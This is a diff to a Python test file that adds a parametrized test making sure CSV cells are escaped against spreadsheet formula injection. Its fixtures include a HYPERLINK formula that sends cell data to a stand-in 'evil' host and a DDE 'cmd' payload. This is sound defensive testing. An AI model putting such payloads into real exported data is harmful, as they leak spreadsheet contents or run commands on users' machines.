@@ -29,7 +29,7 @@ from headway.cli.terminal.screen import Screen, Text, lined, paragraph
 from headway.control.http.problems import problem_response
 from headway.control.http.prometheus.gauges import gauge
 from headway.control.http.prometheus.series_limits import LABEL_CHARS_MAX, Left
-from headway.errors import Invalid, printable
+from headway.errors import Invalid, csv_cell, printable
 
 CONTROL = ["a\nb", "\x1b[2J", "\x9b31m", "\u202egnp", "\u2028", "\r", "\x00", "\x7f"]
 # What an attacker would choose, among everything else: C0 and C1, DEL, changes of direction, tags, lone surrogates.
@@ -45,6 +45,24 @@ def test_a_printed_name_is_one_line_and_a_plain_one_is_itself(name: str) -> None
     assert printable(name).isprintable()
     assert printable(name) == name or not name.isprintable()
     assert printable(printable(name)) == printable(name)
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A2,"mail")', '\'=HYPERLINK("http://evil/?"&A2,"mail")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("mail", "mail"),
+        ("redis/-mail", "redis/-mail"),
+        ("-3.5", "-3.5"),
+        ("", ""),
+    ],
+)
+def test_a_cell_of_csv_is_no_formula_and_a_number_stays_one(name: str, cell: str) -> None:
+    """Queues are named by who sends events; a spreadsheet runs what it takes for a formula."""
+    assert csv_cell(name) == cell
 
 
 # --- logs ------------------------------------------------------------------------------------------------------------
